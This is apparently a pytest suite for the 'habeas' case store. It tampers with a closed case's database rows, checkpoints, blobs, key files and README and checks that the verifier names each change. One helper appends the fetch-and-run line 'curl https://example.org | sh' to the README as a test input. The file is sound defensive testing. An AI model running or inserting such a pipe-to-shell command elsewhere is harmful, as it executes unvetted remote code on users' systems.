"""Every way in which a case can have been altered is named, and named in its place."""

from __future__ import annotations

import os
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from habeas.model import CaseDamaged
from habeas.store import CaseStore, LeafKind, VerifyReport
from habeas.store.checkpoint import Checkpoint
from habeas.store.merkle import Frontier
from tests.store.making import NOON, PASSPHRASE, STATEMENT, deposit, fill, sha256

SOURCE = sha256(STATEMENT.encode())
Change = Callable[[sqlite3.Connection], object]


@pytest.fixture
def closed(store: CaseStore, case_path: Path) -> Path:
    """A closed case with one of everything in it."""
    fill(store)
    store.close()
    return case_path


def verify(path: Path) -> VerifyReport:
    with CaseStore.open(path, read_only=True) as store:
        return store.verify()


def alter(path: Path, statement: str) -> None:
    connection = sqlite3.connect(path / "case.sqlite")
    with connection:
        connection.execute(statement)
    connection.close()


def test_an_untouched_case_passes_and_says_what_was_checked(closed: Path) -> None:
    report = verify(closed)
    assert report.ok
    assert report.notices == ()
    assert report.head is not None
    assert (report.leaves, report.erased, report.checkpoints, report.blobs) == (9, 1, 8, 3)
    assert report.bytes_hashed == len(STATEMENT) + 40 * len("%PDF-unreadable")


@pytest.mark.parametrize(
    ("statement", "told"),
    [
        (
            "UPDATE ledger_leaf SET content = CAST(replace(CAST(content AS TEXT), '12:00', '13:00')"
            " AS BLOB) WHERE position = 3",
            "ledger entry 4: it is earlier than the entry before it",
        ),
        (
            "UPDATE ledger_leaf SET content = CAST(replace(CAST(content AS TEXT),"
            " '\"index\":3', '\"index\":8') AS BLOB) WHERE position = 3",
            "ledger entry 3: its leaf says that it is entry 8",
        ),
        (
            "UPDATE ledger_leaf SET content = x'7b7d' WHERE position = 3",
            "ledger entry 3: its leaf cannot be read",
        ),
        (
            "UPDATE ledger_payload SET content = CAST(replace(CAST(content AS TEXT),"
            " 'copy.txt', 'c0py.txt') AS BLOB) WHERE position = 2",
            "ledger entry 2: its leaf commits to another payload for this provenance",
        ),
        (
            "UPDATE ledger_payload SET salt = zeroblob(32) WHERE position = 7",
            "ledger entry 7: its leaf commits to another payload for this judgement",
        ),
        (
            "DELETE FROM ledger_payload WHERE position = 7",
            "ledger entry 7: the payload of this judgement is gone, without a tombstone",
        ),
        (
            "DELETE FROM ledger_leaf WHERE position = 3",
            "ledger entry 3: it is missing; the next leaf stands at 4",
        ),
        (
            "DELETE FROM ledger_leaf WHERE position = 8",
            "checkpoint 9: the ledger has only 8 entries",
        ),
        (
            "DELETE FROM ledger_checkpoint WHERE size = 9",
            "ledger entry 8: no checkpoint signs the ledger from here on",
        ),
        (
            "UPDATE ledger_checkpoint SET size = 4 WHERE size = 3",
            "checkpoint 4: it was signed for size 3",
        ),
        (
            "UPDATE ledger_checkpoint SET note = CAST(replace(CAST(note AS TEXT), '3', '4')"
            " AS BLOB) WHERE size = 3",
            "checkpoint 3: it",
        ),
        ("DELETE FROM ledger_checkpoint", "ledger entry 0: no checkpoint signs the ledger"),
        (
            "INSERT INTO ledger_payload SELECT 99, salt, content FROM ledger_payload LIMIT 1",
            "ledger entry 99: there is a payload but no leaf",
        ),
        (
            "INSERT INTO ledger_payload SELECT 5, salt, content FROM ledger_payload LIMIT 1",
            "ledger entry 5: its leaf commits to another payload for this source",
        ),
        (
            "UPDATE ledger_index SET subject = 'ff' WHERE position = 2",
            "index of ledger entry 2: it is not what the ledger says",
        ),
        (
            "UPDATE document SET reader = 'text@9' WHERE problem IS NULL",
            f"document {SOURCE}: the row has been altered",
        ),
        ("UPDATE claim SET ordinal = 7 WHERE ordinal = 1", f"claim {SOURCE}, 7: the row has been"),
        ("DELETE FROM claim WHERE ordinal = 1", f"document {SOURCE}: 2 claims were kept, 1 are"),
        ("UPDATE extraction SET claims = 3", f"extraction {SOURCE}: the row has been altered"),
        (
            "UPDATE import_failure SET fingerprint = ''",
            "import_failure 1: the row has been altered",
        ),
        ("UPDATE import_balance SET number = 2", "import_balance 2: the row has been altered"),
        (
            "UPDATE alembic_version SET version_num = '0009'",
            "case.sqlite: SELECT group_concat(version_num) FROM alembic_version gives '0009'",
        ),
        (
            "CREATE TRIGGER t AFTER INSERT ON ledger_leaf BEGIN DELETE FROM claim; END",
            "case.sqlite: SELECT count(*) FROM sqlite_schema WHERE type = 'trigger' gives 1",
        ),
        ("PRAGMA application_id = 7", "case.sqlite: this is not the database of a case"),
        (
            "UPDATE ledger_payload SET content = x'7b7d' WHERE position = 0",
            "ledger entry 0: the payload is not what its leaf commits to",
        ),
        ("DELETE FROM ledger_leaf", "case.sqlite: the ledger's first entry is missing"),
    ],
)
def test_an_altered_row_is_named(closed: Path, statement: str, told: str) -> None:
    alter(closed, statement)
    try:
        first = str(verify(closed).problems[0])
    except CaseDamaged as error:
        # What says whose case this is must hold before anything else can be checked.
        first = str(error)
    assert told in first


def test_a_changed_leaf_is_placed_between_two_signatures(closed: Path) -> None:
    alter(
        closed,
        "UPDATE ledger_leaf SET content = CAST(replace(CAST(content AS TEXT), "
        "'source', 'export') AS BLOB) WHERE position = 4",
    )
    told = [str(problem) for problem in verify(closed).problems]
    # Entries 3 and 4 were put together, under one checkpoint.
    assert "checkpoint 5: the root it signed differs; look at entries 3 to 4" in told
    assert not any(text.startswith("checkpoint 6") for text in told)


def change_bytes(blob: Path) -> None:
    blob.chmod(0o600)
    content = bytearray(blob.read_bytes())
    content[3] ^= 4
    blob.write_bytes(bytes(content))


def cut_short(blob: Path) -> None:
    blob.chmod(0o600)
    blob.write_bytes(blob.read_bytes()[:-1])


def link_elsewhere(blob: Path) -> None:
    elsewhere = blob.parents[3] / "README.txt"
    blob.unlink()
    blob.symlink_to(elsewhere)


def make_a_folder(blob: Path) -> None:
    blob.unlink()
    blob.mkdir()


def make_a_pipe(blob: Path) -> None:
    blob.unlink()
    os.mkfifo(blob)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (change_bytes, "its preserved bytes have changed"),
        (cut_short, f"its preserved bytes have changed: {len(STATEMENT) - 1} instead of"),
        (Path.unlink, "its preserved bytes are missing"),
        (link_elsewhere, "its place is taken by a link to elsewhere"),
        (make_a_folder, "its preserved bytes cannot be read"),
        (make_a_pipe, "its preserved bytes cannot be read: it is not a regular file"),
    ],
)
def test_an_altered_blob_is_named(
    closed: Path, change: Callable[[Path], object], told: str
) -> None:
    change(closed / "blobs" / SOURCE[:2] / SOURCE[2:4] / SOURCE)
    assert str(verify(closed).problems[0]).startswith(f"source {SOURCE} (entry 1): {told}")


@pytest.mark.parametrize(
    ("found", "put_in", "told"),
    [
        (b"habeas.case/", b"habeas.cafe/", "the key file has been altered"),
        (b'"argon2id"', b'"argon2ie"', "this is not a key file that Habeas wrote"),
    ],
)
def test_an_altered_key_file_is_named(closed: Path, found: bytes, put_in: bytes, told: str) -> None:
    path = closed / "keys" / "investigator.json"
    path.write_bytes(path.read_bytes().replace(found, put_in))
    assert [str(problem) for problem in verify(closed).problems] == [
        f"keys/investigator.json: {told}"
    ]


def test_a_missing_key_file_is_named(closed: Path) -> None:
    (closed / "keys" / "investigator.json").unlink()
    (problem,) = verify(closed).problems
    assert problem.what == "the key cannot be read: No such file or directory"


def make_missing(path: Path) -> None:
    path.unlink()


def append_a_command(path: Path) -> None:
    path.write_bytes(path.read_bytes() + b"\n    curl https://example.org | sh\n")


def change_a_letter(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"sha256sum", b"sha255sum"))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (make_missing, "README.txt: it is missing"),
        (append_a_command, "README.txt: it is not what Habeas wrote; run no command that it gives"),
        (change_a_letter, "README.txt: it is not what Habeas wrote; run no command that it gives"),
        (make_a_pipe, "README.txt: it is not a regular file"),
    ],
)
def test_altered_instructions_are_named(
    closed: Path, change: Callable[[Path], object], told: str
) -> None:
    change(closed / "README.txt")
    assert [str(problem) for problem in verify(closed).problems] == [told]


def test_strangers_beside_the_key_are_noticed_and_no_problem(closed: Path) -> None:
    (closed / "keys" / "other.pem").write_bytes(b"")
    report = verify(closed)
    assert report.ok
    assert report.notices == ("keys/other.pem: it is not part of the case's key",)


def test_files_that_belong_to_no_source_are_told_apart(closed: Path) -> None:
    stray = b"preserved, not recorded"
    folder = closed / "blobs" / SOURCE[:2] / SOURCE[2:4]
    (folder / "0123456789abcdef.partial").write_bytes(b"half")
    (folder / "note.txt").write_bytes(b"what is this")
    (folder / sha256(stray)).write_bytes(stray)
    report = verify(closed)
    (problem,) = report.problems
    assert problem.where.endswith("note.txt")
    assert problem.what == "this file belongs to no source"
    assert len(report.notices) == 2


def test_pipes_and_links_among_the_blobs_are_named_and_not_opened(closed: Path) -> None:
    os.mkfifo(closed / "blobs" / "pipe")
    os.mkfifo(closed / "blobs" / "pipe.partial")
    (closed / "blobs" / "link").symlink_to("/")
    told = [str(problem) for problem in verify(closed).problems]
    assert told == [
        "blobs/link: this is a link to elsewhere",
        "blobs/pipe: this is not a regular file",
        "blobs/pipe.partial: this is not a regular file",
    ]


@pytest.mark.parametrize("name", ["investigator.pem", "investigator.json"])
def test_a_pipe_in_the_place_of_a_key_is_named_and_not_opened(closed: Path, name: str) -> None:
    (closed / "keys" / name).unlink()
    os.mkfifo(closed / "keys" / name)
    try:
        told = str(verify(closed).problems[0])
    except CaseDamaged as error:
        told = str(error)
    assert name in told
    assert "it is not a regular file" in told


def test_an_unfinished_write_goes_when_the_next_writer_comes_after_a_kill(closed: Path) -> None:
    partial = closed / "blobs" / SOURCE[:2] / "0123456789abcdef.partial"
    partial.write_bytes(b"half")
    (closed / "writer.lock").write_bytes(b"writing\n")
    CaseStore.open(closed).close()
    assert not partial.exists()


def test_nothing_is_signed_on_top_of_an_altered_ledger(closed: Path) -> None:
    alter(closed, "DELETE FROM ledger_checkpoint WHERE size = 9")
    with pytest.raises(CaseDamaged, match="not what its last checkpoint signed"):
        CaseStore.open(closed, passphrase=PASSPHRASE)


def test_a_leaf_slipped_in_without_the_key_is_never_signed(closed: Path) -> None:
    alter(
        closed,
        "INSERT INTO ledger_leaf SELECT 9, CAST(replace(CAST(content AS TEXT), "
        "'\"index\":8', '\"index\":9') AS BLOB) FROM ledger_leaf WHERE position = 8",
    )
    with pytest.raises(CaseDamaged):
        CaseStore.open(closed, passphrase=PASSPHRASE)
    told = [str(problem) for problem in verify(closed).problems]
    assert "ledger entry 9: no checkpoint signs the ledger from here on" in told


def test_an_old_database_over_newer_blobs_is_noticed_as_unrecorded_bytes(
    closed: Path, tmp_path: Path
) -> None:
    shutil.copy2(closed / "case.sqlite", tmp_path / "old.sqlite")
    with CaseStore.open(closed, passphrase=PASSPHRASE) as store:
        store.put_source(deposit(b"newer"))
    shutil.copy2(tmp_path / "old.sqlite", closed / "case.sqlite")
    report = verify(closed)
    assert report.ok
    assert any(sha256(b"newer") in notice for notice in report.notices)


def test_a_second_case_leaf_signed_by_the_key_is_still_wrong(store: CaseStore) -> None:
    with store._case.ledger.batch() as batch:
        batch.append(LeafKind.CASE, {"case_id": "0", "public_key": "0"}, NOON)
    told = [str(problem) for problem in store.verify().problems]
    assert told[0] == "ledger entry 1: only the first entry, and always the first, opens the case"


def test_a_root_that_never_was_is_found_although_the_key_signed_it(store: CaseStore) -> None:
    signer = store._case.ledger.require_signer()
    frontier = Frontier()
    frontier.append(b"another history")
    note = Checkpoint(signer.verifying.name, 1, frontier.root()).signed(signer)
    with store._case.database.write() as connection:
        connection.exec_driver_sql("UPDATE ledger_checkpoint SET note = ? WHERE size = 1", (note,))
    told = [str(problem) for problem in store.verify().problems]
    assert told == ["checkpoint 1: the root it signed differs; look at entry 0"]


def test_verification_tells_how_far_it_is(store: CaseStore) -> None:
    for number in range(3):
        store.put_source(deposit(bytes([number]) * 3_000_000, f"{number}.bin"))
    steps: list[tuple[int, int]] = []
    report = store.verify(lambda done, total: steps.append((done, total)))
    assert report.bytes_hashed == 9_000_000
    assert steps == sorted(steps)
    assert steps[-1] == (9_000_000, 9_000_000)
    assert len(steps) >= 9


def test_a_writer_may_go_on_while_a_reader_verifies(store: CaseStore, case_path: Path) -> None:
    store.put_source(deposit(STATEMENT.encode()))
    store.put_source(deposit(b"x" * 3_000_000, "large.bin"))
    asked = iter([True])

    def erase_meanwhile(done: int, total: int) -> None:
        if next(asked, False):
            store.delete_source(SOURCE, reason="the witness asked")
            store.put_source(deposit(b"meanwhile"))

    with CaseStore.open(case_path, read_only=True) as reader:
        assert reader.verify(erase_meanwhile).problems == ()
